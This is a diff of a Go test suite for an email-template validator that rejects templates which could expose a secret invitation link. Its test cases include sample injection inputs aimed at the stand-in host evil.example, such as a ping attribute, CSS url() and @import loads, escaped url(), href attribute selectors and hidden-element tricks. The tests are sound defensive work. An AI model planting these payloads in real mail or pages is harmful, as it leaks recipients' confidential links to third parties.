@@ -21,13 +21,10 @@ const inBrackets = "write {{.Link}} in a line without quotes and outside of < an
 func TestMailsThatReadTheLinkWithSomethingElse(t *testing.T) {
 	t.Parallel()
 	const evil = "https://evil.example/?u="
-	acting := func(name string) string { return "an attribute " + name + " is not allowed in a mail" }
-	watching := func(sign string) string {
-		return "a style sheet must not contain " + sign + ", because it could tell another server what is in the mail"
+	attribute := func(name, value, of string) string {
+		return fmt.Sprintf("an attribute %s=%q is not allowed in <%s>", name, value, of)
 	}
-	style := func(style string) string {
-		return "a style " + style + " is not allowed here: it could join separate words into one address"
-	}
+	style := func(style, of string) string { return fmt.Sprintf("a style %q is not allowed in <%s>", style, of) }
 	const tooLong = "elements such as <b> are open too long; close each of them in the block that it is in"
 	fonts := func(attribute string, n int) string {
 		var all strings.Builder
@@ -36,7 +33,7 @@ func TestMailsThatReadTheLinkWithSomethingElse(t *testing.T) {
 		}
 		return all.String()
 	}
-	const disguise = `a style must not contain \ or a comment`
+	const styleSheet = "an element <style> is not allowed in a mail"
 	for name, c := range map[string]struct{ file, source, want string }{
 		"angle brackets":                            {"txt", "<" + evil + " {{.Link}} >", inBrackets},
 		"angle brackets in lines":                   {"txt", "<\n" + evil + "\n{{.Link}}\n>", inBrackets},
@@ -48,36 +45,35 @@ func TestMailsThatReadTheLinkWithSomethingElse(t *testing.T) {
 		"a cell without a table":                    {"html", evil + "<td>{{.Link}}</td>", apartInHTML},
 		"the end of a block that was not opened":    {"html", evil + "</div>{{.Link}}", apartInHTML},
 		"the end of a table that was not opened":    {"html", evil + "</table>{{.Link}}", apartInHTML},
-		"a hidden block":                            {"html", evil + "<p hidden></p>{{.Link}}", acting("hidden")},
-		"a block that pops up":                      {"html", evil + "<p POPOVER></p>{{.Link}}", acting("popover")},
-		"an address that receives clicks":           {"html", `<a ping="https://evil.example" href="{{.Link}}">a</a>`, acting("ping")},
-		"an event":                                  {"html", `<a onclick="x()" href="{{.Link}}">a</a>`, acting("onclick")},
-		"a block that is not displayed":             {"html", evil + `<p style="display:none"></p>{{.Link}}`, style("display:none")},
-		"an inline block":                           {"html", evil + `<p style="color:red; DISPLAY : inline-block">{{.Link}}</p>`, style("display:inline-block")},
-		"a space between columns":                   {"html", `<b style="display:flex"><b>` + evil + "</b> <i>{{.Link}}</i></b>", style("display:flex")},
-		"a block that floats":                       {"html", evil + `<p style="float:left">{{.Link}}</p>`, style("float:left")},
-		"a positioned block":                        {"html", evil + `<p style="position:absolute">{{.Link}}</p>`, style("position:absolute")},
-		"a block without its styles":                {"html", evil + `<p style="all:unset">{{.Link}}</p>`, style("all:unset")},
-		"an invisible space":                        {"html", evil + `<b style="visibility:hidden"> </b>{{.Link}}`, style("visibility:hidden")},
-		"a block with other content":                {"html", evil + `<p style="content:url(x)"></p>{{.Link}}`, style("content:url")},
-		"a space at the end of an element":          {"html", evil + `<b style="font-size:0"> </b>{{.Link}}`, apartInHTML},
-		"a style as entities":                       {"html", evil + `<p style="d&#105;splay:none"></p>{{.Link}}`, style("display:none")},
-		"a style in disguise":                       {"html", evil + `<p style="d\69splay:none"></p>{{.Link}}`, disguise},
-		"a style with a comment":                    {"html", evil + `<p style="display&#47;**/:none"></p>{{.Link}}`, disguise},
-		"a style sheet that hides":                  {"html", "<style>p { display:none }</style>" + evil + "<p></p>{{.Link}}", style("display:none")},
-		"a style sheet that reads the link":         {"html", "<style>a[href$=x] { color: red }</style>", watching("[")},
-		"a style sheet that loads":                  {"html", "<style>a { background: URL(//evil.example/) }</style>", watching("URL(")},
-		"a style sheet that loads another":          {"html", "<style>@import 'https://evil.example';</style>", watching("'")},
-		"a style sheet that loads a set":            {"html", `<style>a { background: image-set("//evil.example/" 1x) }</style>`, watching(`"`)},
-		"a style sheet in disguise":                 {"html", `<style>a { background: u\72l(//evil.example/) }</style>`, watching(`\`)},
-		"a style sheet in two parts":                {"html", "<style>a { background: u{{if .Name}}{{end}}rl(//evil.example/) }</style>", watching("url(")},
-		"elements that continue in each block":      {"html", "<p>" + fonts("<b a%d>", 100) + strings.Repeat("<p>x", 2000), tooLong},
-		"attributes that continue":                  {"html", "<p><b" + fonts(" a%d", 1000) + ">" + strings.Repeat("<p>x", 200), tooLong},
+		"a hidden block":                            {"html", evil + "<p hidden></p>{{.Link}}", attribute("hidden", "", "p")},
+		"a block that pops up":                      {"html", evil + "<p POPOVER></p>{{.Link}}", attribute("popover", "", "p")},
+		"an address that receives clicks":           {"html", `<a ping="https://evil.example" href="{{.Link}}">a</a>`, attribute("ping", "https://evil.example", "a")},
+		"an event":                                  {"html", `<a onclick="x()" href="{{.Link}}">a</a>`, attribute("onclick", "x()", "a")},
+		"a block that is not displayed":             {"html", evil + `<p style="display:none"></p>{{.Link}}`, style("display:none", "p")},
+		"an inline block":                           {"html", evil + `<p style="color:red; DISPLAY : inline-block">{{.Link}}</p>`, style("DISPLAY : inline-block", "p")},
+		"a space between columns":                   {"html", `<b style="display:flex"><b>` + evil + "</b> <i>{{.Link}}</i></b>", style("display:flex", "b")},
+		"a block that floats":                       {"html", evil + `<p style="float:left">{{.Link}}</p>`, style("float:left", "p")},
+		"a positioned block":                        {"html", evil + `<p style="position:absolute">{{.Link}}</p>`, style("position:absolute", "p")},
+		"a block without its styles":                {"html", evil + `<p style="all:unset">{{.Link}}</p>`, style("all:unset", "p")},
+		"an invisible space":                        {"html", evil + `<b style="visibility:hidden"> </b>{{.Link}}`, style("visibility:hidden", "b")},
+		"a block with other content":                {"html", evil + `<p style="content:url(x)"></p>{{.Link}}`, style("content:url(x)", "p")},
+		"a space at the end of an element":          {"html", evil + `<b> </b>{{.Link}}`, apartInHTML},
+		"a style as entities":                       {"html", evil + `<p style="d&#105;splay:none"></p>{{.Link}}`, style("display:none", "p")},
+		"a style in disguise":                       {"html", evil + `<p style="d\69splay:none"></p>{{.Link}}`, style(`d\69splay:none`, "p")},
+		"a style with a comment":                    {"html", evil + `<p style="display&#47;**/:none"></p>{{.Link}}`, style("display/**/:none", "p")},
+		"a style sheet that hides":                  {"html", "<style>p { display:none }</style>" + evil + "<p></p>{{.Link}}", styleSheet},
+		"a style sheet that reads the link":         {"html", "<style>a[href$=x] { color: red }</style>", styleSheet},
+		"a style sheet that loads":                  {"html", "<style>a { background: URL(//evil.example/) }</style>", styleSheet},
+		"a style sheet that loads another":          {"html", "<style>@import 'https://evil.example';</style>", styleSheet},
+		"a style sheet that loads a set":            {"html", `<style>a { background: image-set("//evil.example/" 1x) }</style>`, styleSheet},
+		"a style sheet in disguise":                 {"html", `<style>a { background: u\72l(//evil.example/) }</style>`, styleSheet},
+		"elements that continue in each block":      {"html", "<p>" + fonts("<b class=a%d>", 100) + strings.Repeat("<p>x", 2000), tooLong},
+		"attributes that continue":                  {"html", "<p><b" + fonts(" a%d", 1000) + ">" + strings.Repeat("<p>x", 200), attribute("a0", "", "b")},
 		"more nested elements than a program reads": {"html", strings.Repeat("<div>", 600), "the elements are nested too deeply"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			templates, errs := wording.ParseTemplates(ownInvitation("invitation."+c.file, "{{.Link}}\n"+c.source))
+			templates, errs := parseOwn(ownInvitation("invitation."+c.file, "{{.Link}}\n"+c.source))
 			if diff := cmp.Diff([]string{c.want}, reasons(errs)); diff != "" {
 				got, err := templates.Invitation("en", anInvitation())
 				t.Errorf("faults (-want +got):\n%s\nThe mail: %q, %q, %v", diff, got.Text, got.HTML, err)
@@ -114,17 +110,5 @@ func TestMailsThatWouldCarryTheLinkAreInTheBuiltInWording(t *testing.T) {
 				t.Errorf("got %q, %v, want their own wording, because it carries nothing", got.Subject, err)
 			}
 		})
-	}
-}
-
-// Messages without a secret can have any style.
-func TestMailsWithoutASecretHaveNothingToCarry(t *testing.T) {
-	t.Parallel()
-	source := `<style>a[href] { display: flex }</style><p hidden>"{{.Name}}"</p>{{.PortalURL}}{{.Role}}`
-	c, err := parse(t, map[string]string{
-		"confirmation.subject": "S", "confirmation.txt": "T{{.PortalURL}}", "confirmation.html": source,
-	}).Confirmation("en", aConfirmation())
-	if err != nil || c.Subject != "S" || !strings.Contains(c.HTML, "<p hidden>") {
-		t.Errorf("got %+v, %v, want their own wording", c, err)
 	}
 }
